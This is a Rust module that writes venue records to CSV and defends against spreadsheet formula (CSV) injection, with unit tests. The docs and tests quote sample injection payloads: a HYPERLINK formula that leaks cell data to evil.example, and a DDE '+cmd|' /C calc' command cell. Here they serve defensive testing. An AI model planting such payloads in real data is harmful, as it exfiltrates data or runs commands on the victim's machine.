//! Writing records back as a standard v1 CSV.

use std::borrow::Cow;
use std::io::Write;

use maillage_proto::v1::VenueRecord;

use crate::fields::micro_to_decimal;
use crate::row::V1_FIELDS;

/// Why writing a CSV failed.
#[derive(Debug)]
pub enum ExportError {
    /// The CSV writer failed (usually an I/O error underneath).
    Csv(csv::Error),
    /// Flushing the output failed.
    Io(std::io::Error),
}

impl std::fmt::Display for ExportError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        use maillage_core::tr;
        f.write_str(&match self {
            Self::Csv(e) => tr!("l'écriture du CSV a échoué : {e}", "CSV output failed: {e}"),
            Self::Io(e) => tr!(
                "erreur d'entrée-sortie à l'écriture du CSV : {}",
                "I/O error while writing CSV: {}",
                maillage_core::lang::io_error(e)
            ),
        })
    }
}

impl std::error::Error for ExportError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            Self::Csv(e) => Some(e),
            Self::Io(e) => Some(e),
        }
    }
}

impl From<csv::Error> for ExportError {
    fn from(e: csv::Error) -> Self {
        Self::Csv(e)
    }
}

impl From<std::io::Error> for ExportError {
    fn from(e: std::io::Error) -> Self {
        Self::Io(e)
    }
}

/// A cell as a spreadsheet shows it, never runs it. Text starting with `=`, `+`, `-`, `@`, a
/// tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets (a venue
/// named `=HYPERLINK("http://…"&A1)`, received from a peer, would run on the analyst's
/// machine): it gets a leading `'` (OWASP's rule for CSV injection). A signed number (a
/// coordinate `-21.1`, a phone `+33 1 23 45 67 89`: digits, spaces, `.` and `,` after the
/// sign) runs nothing and is left as it is. Text already starting with `'`s then a formula
/// start gets one more, so that [`from_spreadsheet_safe`] gives every cell back exactly.
#[must_use]
pub fn spreadsheet_safe(cell: &str) -> Cow<'_, str> {
    let unquoted = cell.trim_start_matches('\'');
    let Some(first) = unquoted.chars().next() else {
        return Cow::Borrowed(cell);
    };
    if !formula_start(first) {
        return Cow::Borrowed(cell);
    }
    let rest = &unquoted[first.len_utf8()..];
    let signed_number = unquoted.len() == cell.len()
        && matches!(first, '+' | '-')
        && rest.chars().any(|c| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, ' ' | '.' | ','));
    if signed_number {
        Cow::Borrowed(cell)
    } else {
        Cow::Owned(format!("'{cell}"))
    }
}

/// A cell of a CSV read back: the inverse of [`spreadsheet_safe`] (a cell of `'`s then a
/// formula start loses its first `'`), so that an export re-imports as the same records.
#[must_use]
pub fn from_spreadsheet_safe(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest)
            if rest
                .trim_start_matches('\'')
                .chars()
                .next()
                .is_some_and(formula_start) =>
        {
            rest
        }
        _ => cell,
    }
}

/// What makes a spreadsheet read a cell as a formula.
fn formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// Writes `records` as a CSV of the standard v1: `,`-separated, header in schema order,
/// multi-valued fields `|`-joined, coordinates in decimal degrees (up to 6 decimals), quoted
/// only where needed, cells a spreadsheet would run as formulas neutralised
/// ([`spreadsheet_safe`]).
///
/// # Errors
/// [`ExportError`] when the writer fails.
pub fn export_csv_v1<W: Write>(records: &[VenueRecord], w: W) -> Result<(), ExportError> {
    let mut out = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(w);
    out.write_record(V1_FIELDS)?;
    for record in records {
        out.write_record(
            v1_cells(record)
                .iter()
                .map(|cell| spreadsheet_safe(cell).into_owned()),
        )?;
    }
    out.flush()?;
    Ok(())
}

/// The 32 cells of a record, in [`V1_FIELDS`] order.
#[must_use]
pub fn v1_cells(r: &VenueRecord) -> [String; 32] {
    let join = |values: &[String]| values.join("|");
    let coordinate = |micro: Option<i64>| micro.map(micro_to_decimal).unwrap_or_default();
    [
        r.id.clone(),
        r.pivot.clone(),
        r.nom.clone(),
        r.commune.clone(),
        r.code_postal.clone(),
        r.code_insee.clone(),
        r.adresse.clone(),
        r.complement_adresse.clone(),
        coordinate(r.latitude_micro),
        coordinate(r.longitude_micro),
        join(&r.typologie),
        join(&r.telephone),
        join(&r.courriels),
        join(&r.site_web),
        r.horaires.clone(),
        r.presentation_resume.clone(),
        r.presentation_detail.clone(),
        r.source.clone(),
        join(&r.itinerance),
        r.structure_parente.clone(),
        r.date_maj.clone(),
        join(&r.services),
        join(&r.publics_specifiquement_adresses),
        join(&r.prise_en_charge_specifique),
        join(&r.frais_a_charge),
        join(&r.dispositif_programmes_nationaux),
        join(&r.formations_labels),
        r.autres_formations_labels.clone(),
        join(&r.modalites_acces),
        join(&r.modalites_accompagnement),
        r.fiche_acces_libre.clone(),
        r.prise_rdv.clone(),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    #[allow(clippy::unwrap_used)]
    fn writes_header_and_quotes_when_needed() {
        let record = VenueRecord {
            id: "a,1".into(),
            nom: "Le \"Lieu\"".into(),
            latitude_micro: Some(-8588),
            longitude_micro: Some(45_000_000),
            services: vec![
                "Aide aux démarches administratives".into(),
                "Loisirs et créations numériques".into(),
            ],
            presentation_detail: "ligne 1\nligne 2".into(),
            ..VenueRecord::default()
        };
        let mut out = Vec::new();
        export_csv_v1(&[record], &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let mut lines = text.lines();
        assert_eq!(lines.next().unwrap(), V1_FIELDS.join(","));
        assert!(text.contains("\"a,1\",,\"Le \"\"Lieu\"\"\""));
        assert!(text.contains(",-0.008588,45,"));
        assert!(
            text.contains("Aide aux démarches administratives|Loisirs et créations numériques")
        );
        assert!(text.contains("\"ligne 1\nligne 2\""));
    }

    #[test]
    #[allow(clippy::unwrap_used)]
    fn formulas_from_a_peer_are_written_as_text() {
        let record = VenueRecord {
            id: "v1".into(),
            nom: "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")".into(),
            commune: "+cmd|' /C calc'!A0".into(),
            adresse: "-2+3".into(),
            complement_adresse: "@SUM(A1:A9)".into(),
            horaires: "\tMo-Fr 09:00-17:00".into(),
            telephone: vec!["+33 1 23 45 67 89".into()],
            latitude_micro: Some(-21_115_141),
            longitude_micro: Some(55_536_384),
            ..VenueRecord::default()
        };
        let mut out = Vec::new();
        export_csv_v1(&[record], &mut out).unwrap();
        let mut reader = csv::Reader::from_reader(out.as_slice());
        let row = reader.records().next().unwrap().unwrap();
        let cell = |field: &str| {
            let index = V1_FIELDS.iter().position(|f| *f == field).unwrap();
            row[index].to_string()
        };
        assert_eq!(
            cell("nom"),
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")"
        );
        assert_eq!(cell("commune"), "'+cmd|' /C calc'!A0");
        assert_eq!(cell("adresse"), "'-2+3");
        assert_eq!(cell("complement_adresse"), "'@SUM(A1:A9)");
        assert_eq!(cell("horaires"), "'\tMo-Fr 09:00-17:00");
        // Numbers stay numbers.
        assert_eq!(cell("telephone"), "+33 1 23 45 67 89");
        assert_eq!(cell("latitude"), "-21.115141");
        assert_eq!(cell("id"), "v1");
    }

    #[test]
    fn only_formula_starts_are_neutralised() {
        for (cell, safe) in [
            ("", ""),
            ("Médiathèque", "Médiathèque"),
            ("a=b", "a=b"),
            ("=1+2", "'=1+2"),
            ("-", "'-"),
            ("+", "'+"),
            ("- liste", "'- liste"),
            ("-1", "-1"),
            ("-0.5", "-0.5"),
            ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),
            ("\r=1", "'\r=1"),
            ("@", "'@"),
            ("'", "'"),
            ("'texte", "'texte"),
            ("'=1", "''=1"),
            ("'-1", "''-1"),
            ("''+x", "'''+x"),
        ] {
            assert_eq!(spreadsheet_safe(cell), safe, "{cell:?}");
            assert_eq!(from_spreadsheet_safe(&spreadsheet_safe(cell)), cell);
        }
    }
}
